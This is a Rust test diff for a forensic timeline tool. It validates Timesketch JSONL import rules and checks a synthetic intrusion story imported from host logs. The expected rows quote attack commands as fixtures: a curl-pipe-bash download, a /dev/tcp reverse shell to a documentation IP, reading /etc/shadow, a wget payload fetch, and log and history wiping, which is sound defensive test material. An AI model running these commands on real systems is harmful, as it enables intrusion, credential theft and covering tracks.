@@ -144,6 +144,7 @@ fn bundles_and_imported_events_make_one_sorted_deterministic_timesketch_timeline
     assert_eq!(mode & 0o777, 0o600);
 
     let rows = rows(&String::from_utf8(t1).unwrap());
+    assert_timesketch_importable(&rows);
     let hosts: std::collections::BTreeSet<&str> =
         rows.iter().map(|r| r["host"].as_str().unwrap()).collect();
     assert_eq!(hosts.len(), 2, "{hosts:?}");
@@ -342,4 +343,265 @@ fn an_encrypted_bundle_is_read_with_its_identity_and_refused_without() {
         rows.iter()
             .any(|r| r["timestamp_desc"] == "Failed login time")
     );
+}
+
+/// A file of the intrusion story (`tests/data/events-story`, described in its README).
+fn story(name: &str) -> PathBuf {
+    repo_root().join("tests/data/events-story").join(name)
+}
+
+/// `dossier import` of `files` into `dir`: the import bundle.
+fn import(dir: &Path, files: &[&str]) -> PathBuf {
+    let out = dir.to_str().unwrap();
+    let paths: Vec<PathBuf> = files.iter().map(|f| story(f)).collect();
+    let mut args = vec!["import", "--quiet", "--out", out];
+    args.extend(paths.iter().map(|p| p.to_str().unwrap()));
+    let o = dossier(dir.parent().unwrap(), &args);
+    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
+    PathBuf::from(stdout(&o).trim())
+}
+
+/// What Timesketch's JSONL import asks of every line (`read_and_validate_jsonl` in
+/// `timesketch/lib/utils.py`, docs/guides/user/import-from-json-csv.md) and what its index
+/// takes (`data/generic.mappings`, `OPENSEARCH_MAPPING_UPPER_LIMIT` in data/timesketch.conf):
+/// `message`, `datetime` and `timestamp_desc` on every line; `datetime` ISO 8601 with its
+/// offset; `timestamp` the microseconds of `datetime` (what Timesketch computes when it is
+/// missing); no key it keeps or drops (`tag`, `timesketch_label`, `_id`, `_type`, `_index`,
+/// `_source`, `__ts_timeline_id`; its importer client, `timesketch_importer`, drops every key
+/// beginning with `_`); scalar values, each key of one JSON type on every line (the
+/// index maps a key by the first value it sees and rejects a line whose value does not fit);
+/// no dotted or empty key (a dot is an object path to OpenSearch); and few enough keys that
+/// (keys × 2) × 1.1 stays under Timesketch's default mapping limit of 1,000.
+fn assert_timesketch_importable(rows: &[Value]) {
+    let mut types: std::collections::BTreeMap<&str, &'static str> = Default::default();
+    for r in rows {
+        let obj = r.as_object().expect("a JSON object a line");
+        for f in ["message", "datetime", "timestamp_desc"] {
+            assert!(
+                obj.get(f)
+                    .and_then(Value::as_str)
+                    .is_some_and(|s| !s.is_empty()),
+                "{f}: {r}"
+            );
+        }
+        let dt = obj["datetime"].as_str().unwrap();
+        // 2026-11-20T02:11:02.640000+00:00
+        let b = dt.as_bytes();
+        assert!(
+            dt.len() == 32
+                && b[4] == b'-'
+                && b[7] == b'-'
+                && b[10] == b'T'
+                && b[13] == b':'
+                && b[16] == b':'
+                && b[19] == b'.'
+                && dt.ends_with("+00:00"),
+            "datetime {dt}"
+        );
+        assert_eq!(obj["timestamp"].as_i64(), Some(chrono_like(dt)), "{r}");
+        for (k, v) in obj {
+            // Timesketch's importer client drops keys beginning with `_`.
+            assert!(
+                !k.is_empty() && !k.contains('.') && !k.starts_with('_'),
+                "key {k:?}"
+            );
+            assert!(
+                ![
+                    "tag",
+                    "timesketch_label",
+                    "_id",
+                    "_type",
+                    "_index",
+                    "_source",
+                    "__ts_timeline_id"
+                ]
+                .contains(&k.as_str()),
+                "reserved key {k}: {r}"
+            );
+            let ty = match v {
+                Value::String(_) => "string",
+                Value::Number(n) if n.is_f64() => "float",
+                Value::Number(_) => "integer",
+                Value::Bool(_) => "bool",
+                other => panic!("{k} is not a scalar: {other}"),
+            };
+            let first = *types.entry(k.as_str()).or_insert(ty);
+            assert_eq!(
+                first, ty,
+                "{k} is a {first} on one line and a {ty} on another"
+            );
+        }
+    }
+    assert!(
+        types.len() * 2 * 11 / 10 <= 1000,
+        "{} keys: over Timesketch's mapping limit",
+        types.len()
+    );
+}
+
+/// Events in an import bundle's `records/events.jsonl`.
+fn events_in(bundle: &Path) -> usize {
+    let text = String::from_utf8(member(bundle, "records/events.jsonl")).unwrap();
+    text.lines().count()
+}
+
+#[test]
+fn the_intrusion_story_imported_is_one_sorted_deterministic_timesketch_timeline() {
+    let d = tempfile::tempdir().unwrap();
+    let web1 = import(
+        &d.path().join("web1"),
+        &["web1-audit.log", "web1-journal.json"],
+    );
+    let db1 = import(
+        &d.path().join("db1"),
+        &[
+            "db1-mde-DeviceLogonEvents.csv",
+            "db1-mde-DeviceProcessEvents.csv",
+            "db1-mde-DeviceNetworkEvents.json",
+            "db1-mde-DeviceFileEvents.csv",
+            "db1-mde-DeviceEvents-ScriptContent.csv",
+        ],
+    );
+    let miner = collected(d.path(), "rootfs-miner");
+    let events = events_in(&web1) + events_in(&db1);
+    assert!(events > 250, "{events}");
+
+    let o = timeline(d.path(), &[&web1, &db1, &miner], "t1.jsonl");
+    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
+    let o = timeline(d.path(), &[&miner, &db1, &web1], "t2.jsonl");
+    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
+    let o = timeline(d.path(), &[&db1, &web1, &miner], "t3.jsonl");
+    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
+    let t1 = std::fs::read(d.path().join("t1.jsonl")).unwrap();
+    assert_eq!(t1, std::fs::read(d.path().join("t2.jsonl")).unwrap());
+    assert_eq!(t1, std::fs::read(d.path().join("t3.jsonl")).unwrap());
+
+    // Timesketch reads the file a line at a time and fails the whole import on a line that is
+    // not JSON (a blank one included): every line is one object, the last one ends too.
+    let text = String::from_utf8(t1).unwrap();
+    assert!(text.ends_with('\n') && !text.contains("\n\n"));
+    let rows = rows(&text);
+    assert_timesketch_importable(&rows);
+
+    // Every imported event once, at its own time, traceable to its source record.
+    let ev: Vec<&Value> = rows
+        .iter()
+        .filter(|r| r["timestamp_desc"] == "Event time")
+        .collect();
+    assert_eq!(ev.len(), events);
+    for r in &ev {
+        assert_eq!(r["member"], "records/events.jsonl", "{r}");
+        assert!(r["record_line"].is_u64(), "{r}");
+        assert!(
+            r["origin_file"].as_str().unwrap().starts_with("raw/")
+                && r["origin_record"].is_string(),
+            "{r}"
+        );
+        assert!(
+            r["datetime"].as_str().unwrap().starts_with("2026-11-20T"),
+            "{r}"
+        );
+    }
+    // Both hosts of the story under their own names (the collected miner's too).
+    let hosts: std::collections::BTreeSet<&str> =
+        ev.iter().map(|r| r["host"].as_str().unwrap()).collect();
+    assert_eq!(
+        hosts.into_iter().collect::<Vec<_>>(),
+        ["db1.corp.example.com", "web1"]
+    );
+    assert!(rows.iter().any(|r| r["host"] == "esxi-web01"));
+
+    // The story's steps, each at the time its source gives, in the story's order.
+    let at = |host: &str, datetime: &str, what: &dyn Fn(&Value) -> bool| -> usize {
+        rows.iter()
+            .position(|r| r["host"] == host && r["datetime"] == datetime && what(r))
+            .unwrap_or_else(|| panic!("no row on {host} at {datetime} as expected"))
+    };
+    let cmd = |r: &Value, c: &str| r["process_command_line"] == c;
+    let download = at("web1", "2026-11-20T02:10:14.312000+00:00", &|r| {
+        r["action"] == "execve"
+            && cmd(r, "sh -c curl -fsSL http://203.0.113.45/x.sh | bash")
+            && r["user"] == "www-data"
+    });
+    let shell = at("web1", "2026-11-20T02:11:02.640000+00:00", &|r| {
+        r["action"] == "execve" && cmd(r, "bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1")
+    });
+    let callback = at("web1", "2026-11-20T02:11:02.644000+00:00", &|r| {
+        r["action"] == "connect" && r["peer_addr"] == "203.0.113.45" && r["peer_port"] == 4444
+    });
+    let cron = at("web1", "2026-11-20T02:14:07.905000+00:00", &|r| {
+        r["action"] == "openat" && r["file"] == "/etc/cron.d/syncd" && r["fields_key"] == "cron"
+    });
+    let cron_runs = at("web1", "2026-11-20T02:15:01.009403+00:00", &|r| {
+        r["source_format"] == "journal"
+            && r["message"]
+                .as_str()
+                .unwrap()
+                .contains("(root) CMD (/tmp/.x/syncd >/dev/null 2>&1)")
+    });
+    let shadow = at("web1", "2026-11-20T02:20:05.018000+00:00", &|r| {
+        cmd(r, "cat /etc/shadow")
+    });
+    let wipe = at("web1", "2026-11-20T02:20:40.663000+00:00", &|r| {
+        r["file"] == "/var/log/auth.log" && r["fields_key"] == "logs"
+    });
+    let history = at("web1", "2026-11-20T02:20:52.209000+00:00", &|r| {
+        r["action"] == "unlinkat" && r["file"] == "/root/.bash_history"
+    });
+    let db = "db1.corp.example.com";
+    let failed: Vec<&&Value> = ev
+        .iter()
+        .filter(|r| r["action"] == "LogonFailed" && r["peer_addr"] == "198.51.100.7")
+        .collect();
+    assert_eq!(failed.len(), 33);
+    let first_failed = rows
+        .iter()
+        .position(|r| std::ptr::eq(r, *failed[0]))
+        .unwrap();
+    // KQL's seven fractional digits, to the microsecond.
+    let logon = at(db, "2026-11-20T02:35:41.512345+00:00", &|r| {
+        r["action"] == "LogonSuccess" && r["user"] == "deploy" && r["peer_addr"] == "198.51.100.7"
+    });
+    let hash = "b904a02bfbae3d692f6f2bd4a64170aff4fd7b7e7b92fed5293af10f6218e794";
+    let wget = at(db, "2026-11-20T02:36:58.201884+00:00", &|r| {
+        cmd(r, "wget http://203.0.113.45/x.sh -O /tmp/.x/syncd")
+    });
+    let run = at(db, "2026-11-20T02:37:05.109335+00:00", &|r| {
+        r["action"] == "ProcessCreated" && r["process_sha256"] == hash
+    });
+    let c2 = at(db, "2026-11-20T02:37:05.810221+00:00", &|r| {
+        r["action"] == "ConnectionSuccess"
+            && r["peer_addr"] == "203.0.113.45"
+            && r["peer_port"] == 4444
+            && r["process_sha256"] == hash
+    });
+    let unit = at(db, "2026-11-20T02:38:47.602334+00:00", &|r| {
+        r["action"] == "FileCreated" && r["file"] == "/etc/systemd/system/syncd.service"
+    });
+    let keys = at(db, "2026-11-20T02:40:13.220883+00:00", &|r| {
+        r["action"] == "FileModified" && r["file"] == "/home/deploy/.ssh/authorized_keys"
+    });
+    let order = [
+        download,
+        shell,
+        callback,
+        cron,
+        cron_runs,
+        shadow,
+        wipe,
+        history,
+        first_failed,
+        logon,
+        wget,
+        run,
+        c2,
+        unit,
+        keys,
+    ];
+    assert!(order.windows(2).all(|w| w[0] < w[1]), "{order:?}");
+    // An event's row names the import bundle's host apart from its own.
+    assert!(ev.iter().all(|r| r["bundle_host"].is_string()));
+    assert!(rows[shell]["message"].as_str().unwrap().starts_with(
+        "execve: bash (pid 24110) `bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1`"
+    ));
 }
